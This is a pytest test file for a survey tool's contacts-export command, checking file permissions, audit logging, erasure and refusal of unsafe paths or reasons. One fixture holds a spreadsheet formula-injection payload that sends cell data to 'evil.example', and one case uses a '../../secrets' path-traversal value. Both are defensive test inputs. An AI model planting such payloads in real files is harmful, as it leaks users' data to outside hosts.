"""Contacts handed out: what the file holds and who can read it, where it may not go, and what the audit log says."""

import csv
import stat

import pytest
from typer.testing import CliRunner

from orchestration import audit
from orchestration.automation.contacts_export import export_contacts
from orchestration.automation.erasure import Request, erase
from orchestration.automation.lock import refresh_lock
from orchestration.cli import app
from orchestration.codebook import load
from orchestration.collection.contacts import REJECTED_ROW, Contacts
from orchestration.errors import SkillsBankError

from ..automation.conftest import EDITION, limesurvey_csv, made_up, make_small

REASON = "access request 2026-17"
CALCULATED = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture
def small(tmp_path, clean_environment, monkeypatch):
    """Forty responses, of which one is a formula, and a row that cannot be told apart."""
    small = make_small(tmp_path)
    headings, rows = made_up(load(small.settings.codebooks / f"{EDITION}.yaml"), 40)
    rows[4][headings.index("MAIL")] = CALCULATED
    rows[5][headings.index("CONTACT")] = "N"
    written = limesurvey_csv(headings, rows, last_blank_line=False) + b'"zqrejected";"zq@example.org"\r\n'
    monkeypatch.setattr("tests.automation.conftest.limesurvey_csv", lambda *_: written)
    small.collect()
    for variable, value in small.environment().items():
        monkeypatch.setenv(variable, value)
    return small


def written(path):
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def log(small):
    return [(one.action, one.subject, dict(one.details)) for one in audit.read(small.settings)]


def test_an_edition_goes_out_for_one_reader_and_the_log_says_why_and_how_many_but_not_what(small, tmp_path):
    path = tmp_path / "contacts.csv"
    done = CliRunner().invoke(app, ["contacts", "export", EDITION, str(path), "--reason", REASON])
    assert done.output == f"{path}: contacts of 40 responses\n", repr(done.exception)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    rows = written(path)
    assert [row["response"] for row in rows] == [f"{EDITION}/{number}" for number in range(1, 41)]
    # Every cell that was split off, but for rejected rows: decrypted, and nothing a spreadsheet would calculate.
    contacts = Contacts.of(small.settings)
    kept = contacts.read(contacts.path_of(small.archive.latest("limesurvey", EDITION))).to_pylist()
    assert {(f"{EDITION}/{one['respondent_id']}", one["field"], one["value"]) for one in kept} - {
        (row["response"], name, cell.removeprefix("'")) for row in rows for name, cell in row.items()
    } == {(f"{EDITION}/None", REJECTED_ROW, '"zqrejected";"zq@example.org"\r\n')}
    assert rows[4]["MAIL"] == f"'{CALCULATED}"
    assert rows[5]["contact_consent"] == "N"
    assert log(small) == [("contacts exported", EDITION, {"rows": 40, "reason": REASON})]
    assert audit.read(small.settings)[0].actor == "tests"
    said = (small.settings.audit / audit.LOG).read_text() + done.output
    assert not any(cell in said for row in rows for cell in row.values() if len(cell) > 6 and "/" not in cell)


def test_one_response_for_whoever_asks_for_theirs(small, tmp_path):
    assert export_contacts(small.settings, f"{EDITION}/7", tmp_path / "theirs.csv", reason=REASON) == 1
    (row,) = written(tmp_path / "theirs.csv")
    assert row["response"] == f"{EDITION}/7"
    assert log(small) == [("contacts exported", f"{EDITION}/7", {"rows": 1, "reason": REASON})]


def test_who_was_erased_is_not_in_it(small, tmp_path):
    erase(small.settings, Request(respondent=f"{EDITION}/7"))
    assert export_contacts(small.settings, EDITION, tmp_path / "left.csv", reason=REASON) == 39
    with pytest.raises(SkillsBankError, match="no contacts of it are kept"):
        export_contacts(small.settings, f"{EDITION}/7", tmp_path / "theirs.csv", reason=REASON)
    assert not (tmp_path / "theirs.csv").exists()


@pytest.mark.parametrize(
    ("asked", "said"),
    [
        (
            (EDITION, "data/releases/2026-W47-1/public/contacts.csv", REASON),
            "not written into the data folder",
        ),
        ((EDITION, "data/inbox/contacts.csv", REASON), "not written into the data folder"),
        ((EDITION, "link/contacts.csv", REASON), "not written into the data folder"),
        ((EDITION, "taken.csv", REASON), "it cannot be written (File exists)"),
        ((EDITION, "dangling.csv", REASON), "it cannot be written (File exists)"),
        ((EDITION, "nowhere/contacts.csv", REASON), "it cannot be written (No such file"),
        ((EDITION, "contacts.csv", " "), "the reason is missing"),
        ((EDITION, "contacts.csv", "for zq@example.org"), "names somebody"),
        (("../../secrets/1", "contacts.csv", REASON), "names no edition or response"),
        ((f"{EDITION}/", "contacts.csv", REASON), "names no edition or response"),
        ((f"{EDITION}/4242", "contacts.csv", REASON), "no contacts of it are kept"),
    ],
)
def test_what_is_refused_leaves_no_file_and_no_record(small, tmp_path, asked, said):
    who, path, reason = asked
    (tmp_path / "taken.csv").write_text("taken")
    (tmp_path / "dangling.csv").symlink_to(tmp_path / "elsewhere.csv")
    (tmp_path / "link").symlink_to(small.settings.releases / "2026-W47-1" / "public")
    before = sorted(tmp_path.rglob("*"))
    with pytest.raises(SkillsBankError) as refused:
        export_contacts(small.settings, who, tmp_path / path, reason=reason)
    assert said in str(refused.value)
    assert set(tmp_path.rglob("*")) - set(before) <= {small.data / "refresh.lock"}
    assert (tmp_path / "taken.csv").read_text() == "taken"
    assert log(small) == []


def test_what_cannot_be_logged_is_not_handed_out_nor_anything_during_a_refresh(small, tmp_path):
    small.settings.audit.write_text("in the way")
    with pytest.raises(SkillsBankError, match="could not be logged"):
        export_contacts(small.settings, EDITION, tmp_path / "contacts.csv", reason=REASON)
    assert not (tmp_path / "contacts.csv").exists()
    with refresh_lock(small.data, "of a test"):
        busy = small.run("contacts", "export", EDITION, str(tmp_path / "contacts.csv"), "--reason", REASON)
    assert (busy.returncode, "another refresh is running" in busy.stderr) == (1, True)
